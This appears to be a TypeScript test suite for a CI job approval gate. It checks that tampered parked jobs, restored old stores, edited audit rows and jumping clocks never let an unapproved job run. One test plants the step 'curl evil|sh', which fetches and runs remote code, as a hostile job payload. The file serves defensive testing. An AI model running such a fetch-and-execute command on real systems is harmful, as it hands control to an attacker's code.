/** Files changed or set back while the agent was down, clocks that jump, and what can be seen of it. */
import { cpSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, describe, expect, it } from 'vitest';
import type { ApprovalView } from '../../agent/src/wire/approvals.ts';
import type { AuditRow } from '../../agent/src/wire/audit.ts';
import { fixture, skippingClock } from '../support/gate.ts';
import { openScene, type Scene } from '../support/scene.ts';

let scene: Scene;
afterEach(() => scene.close());

const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
const start = (): number =>
  scene.gitlab.enqueue(fixture('test-unit.run1'), { runner: scene.protectedToken, user: zoe });
const ended = (id: number, status: string): Promise<unknown> =>
  scene.gitlab.until(`job ${id} ${status}`, () => scene.gitlab.job(id).status === status);
const state = (...parts: string[]): string => join(scene.folder, 'state', ...parts);
const whileDown = (change: () => void): Promise<void> => scene.restart(change);
function sql(text: string): void {
  const database = new Database(state('hub.sqlite'));
  database.exec(text);
  database.close();
}
const said = (text: string): boolean => scene.log.lines.some((line) => line.includes(text));
const revokeAll = async (): Promise<void> => {
  const jonas = await scene.as('jonas');
  for (const { id } of (await jonas.get<{ items: ApprovalView[] }>('approvals')).body.items)
    await jonas.post(`approvals/${id}/revoke`, { comment: 'old' });
};

describe('the parking lot', () => {
  it('T13 with one bit of a parked job changed hands nothing out, however it is approved', async () => {
    scene = await openScene();
    const runner = scene.runner();
    const job = start();
    const hold = await scene.hold(job, 'waiting_for_approval');
    await whileDown(() => {
      const [name] = readdirSync(state('parking')).filter((each) => each.endsWith('.job'));
      const bytes = readFileSync(state('parking', name!));
      bytes[bytes.length >> 1]! ^= 1;
      writeFileSync(state('parking', name!), bytes);
    });
    const later = scene.runner();
    const maria = await scene.as('maria');
    await maria.post(`holds/${hold.id}/approve`, { digest: hold.digest });
    await scene.gitlab.until('a warning', () => said('cannot be trusted'));
    await scene.gitlab.until('some polls', () => later.polls.length > 5);
    expect([runner.started, later.started]).toEqual([[], []]);
  });

  it('T41 of before the hand-out, put back while the job runs, gives it to nobody a second time', async () => {
    scene = await openScene();
    let finish = (): void => {};
    const work = () => new Promise<void>((resolve) => (finish = resolve));
    const before = scene.runner();
    const job = start();
    const hold = await scene.hold(job, 'waiting_for_approval');
    await before.stop();
    const old = join(scene.folder, 'old-parking');
    await whileDown(() => cpSync(state('parking'), old, { recursive: true }));
    const first = scene.runner({ systemId: 's_first', work });
    await scene.approve(job);
    await scene.gitlab.until('the first start', () => first.started.length === 1);
    const maria = await scene.as('maria');
    const confirmed = async () =>
      (await maria.get<{ history: AuditRow[] }>(`holds/${hold.id}`)).body.history.some(
        ({ event }) => event === 'job_confirmed',
      );
    for (let n = 0; n < 100 && !(await confirmed()); n++) await new Promise((resolve) => setTimeout(resolve, 20));
    await whileDown(() => {
      rmSync(state('parking'), { recursive: true });
      cpSync(old, state('parking'), { recursive: true });
    });
    const second = scene.runner({ systemId: 's_second' });
    await scene.hold(job, 'failed');
    await scene.gitlab.until('some polls', () => second.polls.length > 5);
    expect(second.started).toEqual([]);
    finish();
  });
});

describe('the store', () => {
  it('T29 an older copy put back beside an agent that knows more is said loudly, and stands in the audit', async () => {
    scene = await openScene();
    scene.runner();
    const first = start();
    await scene.approve(first);
    await ended(first, 'success');
    const old = join(scene.folder, 'old');
    await whileDown(() => cpSync(state(), old, { recursive: true }));
    scene.runner();
    await revokeAll();
    const again = start();
    await scene.approve(again);
    await scene.hold(again, 'success');
    await whileDown(() => {
      for (const name of readdirSync(state()).filter((each) => each.startsWith('hub.sqlite'))) rmSync(state(name));
      for (const name of readdirSync(old).filter((each) => each.startsWith('hub.sqlite')))
        cpSync(join(old, name), state(name));
    });
    await scene.gitlab.until('a warning', () => said('older copy of the store'));
    const database = new Database(state('hub.sqlite'), { readonly: true });
    const events = database.prepare('SELECT event FROM audit').pluck().all();
    database.close();
    expect(events).toContain('store_behind');
  });

  it('T34 a row of the audit that was changed is said at the start, and by the check that anybody may ask for', async () => {
    scene = await openScene();
    scene.runner();
    await scene.approve(start());
    await whileDown(() =>
      sql(`DROP TRIGGER audit_no_update; UPDATE audit SET actor = 'user:22 jonas' WHERE event = 'vote_approve'`),
    );
    await scene.gitlab.until('a warning', () =>
      scene.log.lines.some((line) => line.startsWith('error') && /audit|chain/.test(line)),
    );
  });

  it('T28 T29 an approval whose revocation was taken out of its row counts no more, and is said at the start', async () => {
    scene = await openScene();
    const runner = scene.runner();
    const first = start();
    await scene.approve(first);
    await ended(first, 'success');
    await revokeAll();
    await whileDown(() => sql('UPDATE approvals SET revoked_at = NULL, revoked_by = NULL, revoked_reason = NULL'));
    await scene.gitlab.until('a warning', () => said('approval 1 was changed'));
    const later = scene.runner();
    await scene.hold(start(), 'waiting_for_approval');
    expect([runner.started.length, later.started.length]).toEqual([1, 0]);
  });

  it('T28 a digest that was exchanged in an approval lets nothing through', async () => {
    scene = await openScene();
    const runner = scene.runner();
    const first = start();
    await scene.approve(first);
    await ended(first, 'success');
    const evil = scene.gitlab.enqueue(fixture('test-unit.run1'), {
      runner: scene.protectedToken,
      user: zoe,
      mutate: (p) => ((p.steps as { script: string[] }[])[0]!.script = ['curl evil|sh']),
    });
    const held = await scene.hold(evil, 'waiting_for_approval');
    await whileDown(() => sql(`UPDATE approvals SET digest = '${held.digest}'`));
    await scene.gitlab.until('a warning', () => said('approval 1 was changed'));
    const later = scene.runner();
    const again = scene.gitlab.enqueue(fixture('test-unit.run1'), {
      runner: scene.protectedToken,
      user: zoe,
      mutate: (p) => ((p.steps as { script: string[] }[])[0]!.script = ['curl evil|sh']),
    });
    await scene.hold(again, 'waiting_for_approval');
    expect([runner.started.length, later.started.length]).toEqual([1, 0]);
  });
});

describe('clocks that jump', () => {
  it('T12 T29 forward: an approval that is over holds the next job, a token that is over votes no more', async () => {
    const clock = skippingClock();
    scene = await openScene({ clock });
    scene.runner();
    const first = start();
    await scene.approve(first, {
      lifetime: `until:${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}`,
    });
    await ended(first, 'success');
    const maria = await scene.as('maria');
    clock.skip(40 * 86_400_000);
    expect((await maria.get('holds')).status).toBe(401);
    const job = start();
    await scene.gitlab.until('the job to be parked', () => scene.gitlab.job(job).trace.includes('Holdpoint'));
  });

  it('T12 back: an approval that was over once stays over', async () => {
    const clock = skippingClock();
    scene = await openScene({ clock });
    const runner = scene.runner();
    const first = start();
    await scene.approve(first, {
      lifetime: `until:${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}`,
    });
    await ended(first, 'success');
    clock.skip(3 * 86_400_000);
    const second = start();
    await scene.gitlab.until('the job to be parked', () => scene.gitlab.job(second).trace.includes('Holdpoint'));
    clock.skip(-3 * 86_400_000);
    const third = start();
    await scene.gitlab.until('the job to be parked', () => scene.gitlab.job(third).trace.includes('Holdpoint'));
    expect(runner.started.map(({ jobId }) => jobId)).toEqual([first]);
  });
});
